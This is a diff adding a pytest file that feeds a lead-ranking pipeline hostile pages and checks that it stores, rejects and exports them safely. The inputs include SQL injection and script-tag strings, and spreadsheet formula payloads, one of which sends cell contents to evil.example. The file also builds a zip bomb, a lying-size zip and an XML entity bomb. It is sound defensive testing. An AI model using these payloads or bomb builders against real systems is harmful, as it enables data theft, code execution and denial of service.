@@ -1,0 +1,266 @@
+"""Hostile input, on SQLite and PostgreSQL: pages crafted to break parsers, the warehouse, the
+terminal and spreadsheets. One run reads them through every source shape (HTML cards, JSON,
+CSV, XLSX, web search) from a local site; it completes and publishes; values are stored as
+found minus what is never data (controls, NUL, lone surrogates, bidi overrides); exports
+neutralise formulas; the report and the terminal show names as text; XLSX bombs are refused with
+a clear reason; records that cannot be used are rejected with theirs, and the counts reconcile."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import json
+import re
+import struct
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from openpyxl import Workbook, load_workbook
+from sqlalchemy import text
+from typer.testing import CliRunner
+
+from leadrank.extractors.parsers import MAX_XLSX_UNCOMPRESSED
+from leadrank.flows.cli import app
+from leadrank.warehouse.engine import make_engine
+from leadrank.warehouse.export import export_ranked
+from leadrank.warehouse.read import ranked_leads
+from leadrank.warehouse.report import write_report
+from tests.helpers import run_pipeline
+from tests.reliability_log import record
+
+LONG = "长" * 10_000 + "有限公司"
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0"]
+NAMES = [
+    "Robert'); DROP TABLE leads;-- 有限公司", "1' OR '1'='1 Trading Ltd", "x\\'; SELECT pg_sleep(10); -- 科技有限公司",
+    "<script>alert('x')</script>深圳脚本科技有限公司", "<img src=x onerror=alert(1)>华南恶意贸易有限公司",
+    "控制\x07字符\x1b[31m有限公司", "NUL\x00字节有限公司", "😀 Emoji Trading 有限公司 🚀", "华为Technologies株式会社한국Ελληνικά",
+    "\u202eLTD LIVE\u202c Corp", "[/][bold]鼎盛[/bold]有限公司", "[link=http://evil.example]click[/link] Ltd", LONG, *FORMULAS,
+]
+UNUSABLE = ["🙂🙂🙂", "!!!", "\x00\x01\x02"]  # nothing left to name a company by
+NOT_DATA = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def html_cards() -> bytes:
+    cards = "".join(
+        f"<div class=card><h3>{name}</h3><p class=addr>{FORMULAS[i % len(FORMULAS)]}</p></div>"
+        for i, name in enumerate([n for n in NAMES if "<" not in n] + ["<b>粗体</b>有限公司", *UNUSABLE]))
+    # markup inside names: the visible text is the name, scripts are not text
+    cards += "<div class=card><h3><script>alert(1)</script>脚本隐身有限公司<img src=x onerror=alert(2)></h3></div>"
+    cards += "<div class=card><h3></h3><p class=addr>no name at all</p></div>"
+    return f"<html><body>{cards}</body></html>".encode("utf-8", "surrogatepass")
+
+
+def json_records() -> bytes:
+    rows = [{"name": n, "addr": "=1+1", "note": "\ud800 lone surrogate, \u0000 NUL"} for n in [*NAMES, *UNUSABLE]]
+    rows.append({"name": "代理\ud800对有限公司", "addr": "\ud83d"})
+    return json.dumps({"rows": rows}).encode()  # ensure_ascii: \ud800 and \u0000 stay escapes, as JSON allows
+
+
+def csv_table() -> bytes:
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(["单位名称", "联系地址"])
+    for name in [*FORMULAS, "Normal 正常有限公司", "=cmd|' /C calc'!A0 科技有限公司"]:
+        writer.writerow([name, FORMULAS[0]])
+    return out.getvalue().encode("utf-8")
+
+
+def xlsx_table() -> bytes:
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["单位名称", "联系地址"])
+    for row, name in enumerate([*FORMULAS, "表格正常有限公司"], start=2):
+        for column, value in enumerate([name, FORMULAS[1]], start=1):
+            cell = sheet.cell(row=row, column=column, value=value)
+            cell.data_type = "s"  # text that looks like a formula, as a hostile sheet carries it
+    sheet.cell(row=len(FORMULAS) + 3, column=1, value='=HYPERLINK("http://evil.example","real formula")')
+    sheet.cell(row=len(FORMULAS) + 3, column=2, value="a formula has no value until Excel computes it")
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def zip_bomb() -> bytes:
+    """A few hundred KB that expand past the XLSX limit."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
+            block = b"0" * (1 << 22)
+            for _ in range(MAX_XLSX_UNCOMPRESSED // len(block) + 2):
+                member.write(block)
+    return buffer.getvalue()
+
+
+def lying_zip() -> bytes:
+    """A workbook whose sheet's zip headers claim 1 KB for 50 MB of content (so the size check
+    passes): reading stops at the claimed size and the checksum gives it away."""
+    source, out = zipfile.ZipFile(io.BytesIO(xlsx_table())), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(b"</worksheet>", b" " * 50_000_000 + b"</worksheet>")
+            archive.writestr(info.filename, data)
+    data = bytearray(out.getvalue())
+    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
+        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
+    struct.pack_into("<I", data, sheet.header_offset + 22, 1024)  # local header: uncompressed size
+    name = b"xl/worksheets/sheet1.xml"
+    central = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02"))
+    while data[central + 46:central + 46 + len(name)] != name:
+        central = data.find(b"PK\x01\x02", central + 4)
+    struct.pack_into("<I", data, central + 24, 1024)  # central directory: uncompressed size
+    return bytes(data)
+
+
+def entity_bomb() -> bytes:
+    """An XLSX whose sheet expands one entity to a billion 'lol's (XML "billion laughs")."""
+    book = Workbook()
+    book.active.append(["单位名称", "联系地址"])
+    book.active.append(["LOLCELL", "x"])
+    sheet, out = io.BytesIO(), io.BytesIO()
+    book.save(sheet)
+    entities = '<!ENTITY lol "lol">' + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
+    source = zipfile.ZipFile(sheet)
+    with zipfile.ZipFile(out, "w") as archive:
+        for info in source.infolist():
+            data = source.read(info.filename).decode()
+            if "LOLCELL" in data:
+                start = data.index("<worksheet")
+                data = data[:start] + f"<!DOCTYPE worksheet [{entities}]>" + data[start:].replace("LOLCELL", "&lol9;")
+            archive.writestr(info, data)
+    return out.getvalue()
+
+
+def search_results() -> bytes:
+    results = [{"url": f"https://site{i}.example.com/", "title": f"{name} - 官网", "content": FORMULAS[0]}
+               for i, name in enumerate(NAMES)]
+    results += [{"url": "javascript:alert(1)", "title": "脚本链接有限公司"},
+                {"url": "file:///etc/passwd", "title": "本地文件有限公司"},
+                {"url": "https://site0.example.com/again", "title": "重复网站有限公司"},
+                {"url": "https://empty.example.com/", "title": ""}]
+    return json.dumps({"results": results}, ensure_ascii=False).encode()
+
+
+@pytest.fixture(scope="module")
+def bombs() -> dict[str, bytes]:
+    return {"bomb.xlsx": zip_bomb(), "liar.xlsx": lying_zip(), "laughs.xlsx": entity_bomb()}
+
+
+@pytest.fixture
+def hostile_site(httpserver, bombs, tmp_path) -> Path:
+    httpserver.expect_request("/robots.txt").respond_with_data("User-agent: *\nAllow: /\n")
+    pages = {"/expo.html": (html_cards(), "text/html; charset=utf-8"),
+             "/api.json": (json_records(), "application/json"),
+             "/members.csv": (csv_table(), "text/csv; charset=utf-8"),
+             "/members.xlsx": (xlsx_table(), "application/octet-stream"),
+             "/search": (search_results(), "application/json; charset=utf-8"),
+             **{f"/{name}": (data, "application/octet-stream") for name, data in bombs.items()}}
+    for path, (body, kind) in pages.items():
+        httpserver.expect_request(path).respond_with_data(body, content_type=kind)
+    url = httpserver.url_for
+    table = {"format": "xlsx", "columns": {"company_name": "单位名称", "address": "联系地址"}}
+    sources = [
+        {"name": "cards", "kind": "exhibition", "url": url("/expo.html"), "items": "div.card",
+         "fields": {"company_name": "h3", "address": "p.addr"}},
+        {"name": "api", "kind": "exhibition", "url": url("/api.json"), "format": "json", "records": "rows",
+         "fields": {"company_name": "name", "address": "addr", "products": "note"}},
+        {"name": "csv", "kind": "association", "url": url("/members.csv"), "format": "csv",
+         "columns": table["columns"]},
+        {"name": "xlsx", "kind": "association", "url": url("/members.xlsx"), **table},
+        {"name": "search", "kind": "websearch", "engine": "searxng", "endpoint": url("/search"), "queries": ["x"],
+         "max_results": 50},
+        *({"name": name.split(".")[0], "kind": "association", "url": url(f"/{name}"), **table} for name in bombs),
+    ]
+    path = tmp_path / "hostile.yaml"
+    path.write_text(json.dumps({"fetch": {"rate_limit": 0, "allow_private_network": ["127.0.0.1"]},
+                                "sources": sources}, ensure_ascii=False), encoding="utf-8")
+    return path
+
+
+def stored_text(engine, table: str) -> pd.DataFrame:
+    with engine.connect() as conn:
+        return pd.read_sql_query(text(f"SELECT * FROM {table}"), conn).astype(object)
+
+
+def test_hostile_pages_are_stored_safely_exported_safely_and_accounted_for(hostile_site, warehouse_url, tmp_path):
+    result = run_pipeline(str(hostile_site), warehouse_url)  # completes and publishes: raises otherwise
+    reports = {r["source"]: r for r in result["sources"]}
+    for source in ("cards", "api", "csv", "xlsx", "search"):
+        assert reports[source]["status"] == "ok", reports[source]
+    assert re.search(r"XLSX expands to \d+ bytes, over the limit of 200000000", reports["bomb"]["reason"])
+    assert "Bad CRC-32" in reports["liar"]["reason"]
+    assert "amplification" in reports["laughs"]["reason"]
+    assert all(reports[name]["status"] == "failed" for name in ("bomb", "liar", "laughs"))
+
+    engine = make_engine(warehouse_url)
+    staged = stored_text(engine, "stg_prospects")
+    leads = stored_text(engine, "leads")
+    rejects = stored_text(engine, "stg_rejects")
+    for frame in (staged, leads, rejects, stored_text(engine, "stg_source_runs")):
+        for column in frame.columns:
+            dirty = frame[column].map(lambda v: isinstance(v, str) and bool(NOT_DATA.search(v)))
+            assert not dirty.any(), (column, frame.loc[dirty, column].head(3).tolist())
+    names = set(staged["company_name"])
+    for name in ["Robert'); DROP TABLE leads;-- 有限公司", "x\\'; SELECT pg_sleep(10); -- 科技有限公司", LONG, *FORMULAS,
+                 "😀 Emoji Trading 有限公司 🚀", "华为Technologies株式会社한국Ελληνικά",
+                 "<script>alert('x')</script>深圳脚本科技有限公司", "控制字符[31m有限公司", "NUL字节有限公司",
+                 "LTD LIVE Corp", "[/][bold]鼎盛[/bold]有限公司", "脚本隐身有限公司", "粗体有限公司", "代理对有限公司"]:
+        assert name in names, name  # as found, minus what is never data
+    assert staged["company_name"].map(len).max() == len(LONG)  # 10,000 characters stored whole
+
+    reasons = rejects.groupby("reason").size()
+    # 🙂🙂🙂 and !!! from cards and api, and the cards' NUL that the HTML parser turned into U+FFFD
+    assert reasons.filter(like="company name unusable").sum() == 5
+    assert reasons.filter(like="required field empty: company_name").sum() == 3  # empty, controls only, a formula
+    for why in ("not an http(s) URL (javascript:", "not an http(s) URL (file:", "same website as an earlier",
+                "no company name"):
+        assert reasons.filter(like=why).sum() == 1, why
+    records = result["records"]
+    assert records["extracted"] == records["published"] + records["merged"] + records["rejected"]
+    assert records["rejected"] == len(rejects[rejects["stage"].isin(["extract", "normalise"])])
+    with engine.connect() as conn:  # the warehouse is whole: every table there, every lead published
+        assert conn.execute(text("SELECT COUNT(*) FROM lead_scores WHERE run_id = :r"),
+                            {"r": result["run_id"]}).scalar() == records["published"]
+
+    exported_csv, exported_xlsx = tmp_path / "leads.csv", tmp_path / "leads.xlsx"
+    assert export_ranked(engine, exported_csv) == export_ranked(engine, exported_xlsx) == records["published"]
+    cells = [c for row in csv.reader(io.StringIO(exported_csv.read_text(encoding="utf-8-sig"))) for c in row]
+    risky = [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?[\d\s().]+", c)]
+    assert not risky, risky[:5]
+    assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'+cmd") for c in cells)
+    assert any(c.startswith("'@SUM") for c in cells) and any(c.startswith("'-2+3") for c in cells)
+    book = load_workbook(exported_xlsx)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_START), cell.value
+                    assert len(cell.value) <= 32_767
+
+    report = tmp_path / "report.html"
+    write_report(engine, report)
+    page = report.read_text(encoding="utf-8")
+    assert "<script" not in page and "<img" not in page
+    shown_names = ranked_leads(engine).query("movement == 'new'").head(20)["company_name"]  # the report's table
+    assert all(html.escape(name) in page for name in shown_names)
+
+    shown = CliRunner().invoke(app, ["top", "-n", "500", "--warehouse", warehouse_url])
+    assert shown.exit_code == 0, shown.output
+    # A name with a closing tag ("[link=…]click[/link]", cleaned to "…]click[/link] Ltd") crashed Rich before
+    assert "click[/" in shown.output and "\x1b" not in shown.output
+    record("hostile input", "SQL injection, HTML/script, control characters, NUL, lone surrogates, 10,000-character "
+           "fields, emoji, mixed scripts, bidi overrides, Rich markup, CSV/XLSX formulas; zip bomb, lying zip and "
+           "entity bomb XLSX", runs=1, survived=1,
+           lost=records["extracted"] - records["published"] - records["merged"] - records["rejected"],
+           detail=f"{records['extracted']} extracted = {records['published']} published + {records['merged']} merged "
+                  f"+ {records['rejected']} rejected; 3 bombs refused")
+
